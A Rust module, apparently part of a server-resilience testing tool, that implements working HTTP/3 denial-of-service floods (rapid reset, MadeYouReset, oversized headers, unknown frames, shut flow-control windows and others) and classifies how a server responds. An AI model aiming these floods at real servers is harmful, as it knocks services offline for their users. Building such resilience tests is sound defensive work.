//! Floods of HTTP/3: streams and frames that are cheap to send.

use super::{End, Flood, Kind, Leave};
use crate::client::byte_stream::Peer;
use crate::client::http3::{kind, stream};
use crate::client::qpack;
use crate::client::quic::{Quic, at_once, frame, integer};
use quinn::{Connection, ConnectionError, RecvStream, SendStream, VarInt};
use std::time::Duration;

/// The repeated action of an attacker.
#[derive(Clone, Copy, Debug)]
pub(super) enum Turn {
    RapidReset,
    StoppedResponses,
    MadeYouReset,
    UniStreams,
    UniStreamsOfNoType,
    PriorityUpdates,
    UnknownFrames,
    UnknownFramesOfRequests,
    EmptyData,
    CancelledInQpack,
    HalfHeads,
    HugeHeads,
    ManyFields,
    ShutWindows,
}

/// Known attacks on servers of HTTP/2, translated to HTTP/3.
pub(super) const FLOODS: &[Flood] = &[
    calm("rapid reset", Turn::RapidReset),
    calm("answers that are stopped", Turn::StoppedResponses),
    calm("made you reset", Turn::MadeYouReset),
    calm("streams that nobody knows", Turn::UniStreams),
    calm("streams of no type", Turn::UniStreamsOfNoType),
    calm("PRIORITY_UPDATE", Turn::PriorityUpdates),
    calm("frames that nobody knows", Turn::UnknownFrames),
    calm("frames that nobody knows, of a request", Turn::UnknownFramesOfRequests),
    calm("empty DATA", Turn::EmptyData),
    // A stream of one byte without effect.
    borne("streams cancelled in QPACK", Turn::CancelledInQpack),
    // The server owes responses with 408 and 431, and their number is limited.
    borne("half a head", Turn::HalfHeads),
    borne("heads beyond the limit", Turn::HugeHeads),
    calm("heads of too many fields", Turn::ManyFields),
    borne("windows that stay shut", Turn::ShutWindows),
];

const fn calm(name: &'static str, turn: Turn) -> Flood {
    super::calm(name, Kind::Http3(turn))
}

const fn borne(name: &'static str, turn: Turn) -> Flood {
    super::borne(name, Kind::Http3(turn))
}

/// A byte of these floods costs as much as this many of HTTP/2, for the client too.
const SIZE: u64 = 8;

/// H3_EXCESSIVE_LOAD (RFC 9114 §8.1).
const EXCESSIVE_LOAD: u64 = 0x107;
/// H3_REQUEST_CANCELLED
const CANCELLED: VarInt = VarInt::from_u32(0x10c);
/// PRIORITY_UPDATE of a request (RFC 9218 §7.2).
const PRIORITY_UPDATE: u64 = 0xf0700;
/// An unknown type of frames and of streams (RFC 9114 §7.2.8, §6.2.3).
const UNKNOWN: u64 = 0x21;

/// Floods one connection until its end.
pub(super) fn attack(turn: Turn, peer: &Peer, leave: Leave) -> End {
    let quic = match Quic::open(peer) {
        Ok(quic) => quic,
        Err(error) => return End::of(&error),
    };
    let connection = quic.connection().clone();
    at_once(async move {
        let mut attacker = Attacker { connection, control: None, streams: Vec::new() };
        // Any failure means that the connection has ended.
        let flood = async {
            attacker.begin().await?;
            attacker.flood(turn, leave).await
        };
        match tokio::time::timeout(leave.left(), flood).await {
            Ok(Some(())) => End::Left,
            Ok(None) => end_of(&attacker.connection.closed().await),
            // The attacker was waiting for the server when its time ended.
            Err(_) if leave.until.is_some() => End::Left,
            Err(_) => End::Hung,
        }
    })
    .unwrap_or(End::Hung)
}

fn end_of(error: &ConnectionError) -> End {
    match error {
        ConnectionError::ApplicationClosed(closed) => match closed.error_code.into_inner() {
            EXCESSIVE_LOAD => End::Calm,
            other => End::Other(other),
        },
        ConnectionError::TimedOut => End::Hung,
        _ => End::Cut,
    }
}

struct Attacker {
    connection: Connection,
    control: Option<SendStream>,
    /// Streams that stay open.
    streams: Vec<(SendStream, Option<RecvStream>)>,
}

impl Attacker {
    /// Opens the control stream with the settings.
    async fn begin(&mut self) -> Option<()> {
        let mut control = self.connection.open_uni().await.ok()?;
        let settings = [&integer(stream::CONTROL)[..], &frame(kind::SETTINGS, &[])].concat();
        control.write_all(&settings).await.ok()?;
        self.control = Some(control);
        Some(())
    }

    /// Runs turn after turn, as fast as the server allows; returns `None` when the connection has
    /// ended.
    async fn flood(&mut self, turn: Turn, leave: Leave) -> Option<()> {
        let mut vain_looks = 0;
        while self.connection.close_reason().is_none() {
            let goes_on = match turn {
                Turn::RapidReset => self.reset_a_request().await?,
                Turn::StoppedResponses => self.stop_an_response().await?,
                Turn::MadeYouReset => self.be_reset().await?,
                Turn::UniStreams => {
                    self.uni_stream(&[&integer(UNKNOWN)[..], &[0; 9]].concat()).await?
                }
                Turn::UniStreamsOfNoType => self.uni_stream(&[]).await?,
                Turn::PriorityUpdates => {
                    let payload = [&integer(0)[..], b"u=1"].concat();
                    self.on_control(&frame(PRIORITY_UPDATE, &payload)).await?
                }
                Turn::UnknownFrames => self.on_control(&frame(UNKNOWN, &[])).await?,
                Turn::UnknownFramesOfRequests => self.on_request(&frame(UNKNOWN, &[])).await?,
                Turn::EmptyData => self.on_request(&frame(kind::DATA, &[])).await?,
                Turn::CancelledInQpack => self.on_decoder_stream().await?,
                Turn::HalfHeads => self.half_a_head().await?,
                Turn::HugeHeads => {
                    let value = "y".repeat(30_000);
                    self.refused_head(&[("x", &value)]).await?
                }
                Turn::ManyFields => self.refused_head(&[("x", "y"); 101]).await?,
                Turn::ShutWindows => self.unread_response().await?,
            };
            vain_looks += u32::from(!goes_on);
            if !goes_on {
                tokio::time::sleep(Duration::from_millis(1)).await;
            }
            if leave.is_now(SIZE * self.connection.stats().udp_tx.bytes, vain_looks) {
                return Some(());
            }
        }
        None
    }

    async fn open(&self) -> Option<(SendStream, RecvStream)> {
        self.connection.open_bi().await.ok()
    }

    async fn reset_a_request(&self) -> Option<bool> {
        let (mut sender, mut receiver) = self.open().await?;
        sender.write_all(&head("GET", "/large.bin")).await.ok()?;
        let _gone_already = (sender.reset(CANCELLED), receiver.stop(CANCELLED));
        Some(true)
    }

    /// Sends a whole request and stops its response.
    async fn stop_an_response(&self) -> Option<bool> {
        let (mut sender, mut receiver) = self.open().await?;
        sender.write_all(&head("GET", "/large.bin")).await.ok()?;
        sender.finish().ok()?;
        let _gone_already = receiver.stop(CANCELLED);
        Some(true)
    }

    /// Sends a malformed request (RFC 9114 §4.1.2), which the server has to reset.
    async fn be_reset(&self) -> Option<bool> {
        let (mut sender, _receiver) = self.open().await?;
        let fields = frame(kind::HEADERS, &qpack::encode(&[("Upper", "case")]));
        sender.write_all(&fields).await.ok()?;
        let _stopped_already = sender.finish();
        Some(true)
    }

    async fn uni_stream(&self, bytes: &[u8]) -> Option<bool> {
        let mut sender = self.connection.open_uni().await.ok()?;
        // The server may have stopped it by now.
        let _stopped = sender.write_all(bytes).await;
        let _stopped = sender.finish();
        Some(true)
    }

    async fn on_control(&mut self, bytes: &[u8]) -> Option<bool> {
        self.control.as_mut()?.write_all(&bytes.repeat(50)).await.ok()?;
        Some(true)
    }

    /// Sends bytes on an open request, opening one if necessary.
    async fn on_request(&mut self, bytes: &[u8]) -> Option<bool> {
        if self.streams.is_empty() {
            let (mut sender, receiver) = self.open().await?;
            sender.write_all(&head("POST", "/")).await.ok()?;
            self.streams.push((sender, Some(receiver)));
        }
        let (sender, _) = self.streams.first_mut()?;
        if sender.write_all(&bytes.repeat(50)).await.is_err() {
            // The response is complete, and the server has stopped the request.
            self.streams.clear();
        }
        Some(true)
    }

    /// Cancels streams that never existed (RFC 9204 §4.4.2).
    async fn on_decoder_stream(&mut self) -> Option<bool> {
        if self.streams.is_empty() {
            let mut sender = self.connection.open_uni().await.ok()?;
            sender.write_all(&integer(stream::DECODER)).await.ok()?;
            self.streams.push((sender, None));
        }
        self.streams.first_mut()?.0.write_all(&[0x40; 1000]).await.ok()?;
        Some(true)
    }

    /// Opens as many streams as allowed, each with an incomplete head.
    async fn half_a_head(&mut self) -> Option<bool> {
        if self.streams.len() >= 100 {
            return Some(false);
        }
        let (mut sender, receiver) = self.open().await?;
        let fields = [&integer(kind::HEADERS)[..], &integer(15_000), &[0; 400]].concat();
        sender.write_all(&fields).await.ok()?;
        self.streams.push((sender, Some(receiver)));
        Some(true)
    }

    /// Sends a head that is too large because of these fields, and reads its response.
    async fn refused_head(&self, fields: &[(&str, &str)]) -> Option<bool> {
        let (mut sender, mut receiver) = self.open().await?;
        let pseudo = [(":method", "GET"), (":scheme", "https"), (":path", "/")];
        let fields = qpack::encode(&[&pseudo, fields].concat());
        // The response arrives before all of the head was sent.
        let _stopped = sender.write_all(&frame(kind::HEADERS, &fields)).await;
        let _stopped = sender.finish();
        let _reset = receiver.read_to_end(1 << 20).await;
        Some(true)
    }

    /// Sends a request and does not read its response.
    async fn unread_response(&mut self) -> Option<bool> {
        if self.streams.len() >= 100 {
            return Some(false);
        }
        let (mut sender, receiver) = self.open().await?;
        sender.write_all(&head("GET", "/large.bin")).await.ok()?;
        sender.finish().ok()?;
        self.streams.push((sender, Some(receiver)));
        Some(true)
    }
}

fn head(method: &str, path: &str) -> Vec<u8> {
    let fields = [(":method", method), (":scheme", "https"), (":path", path)];
    let authority = [(":authority", "localhost")];
    frame(kind::HEADERS, &qpack::encode(&[&fields[..], &authority].concat()))
}
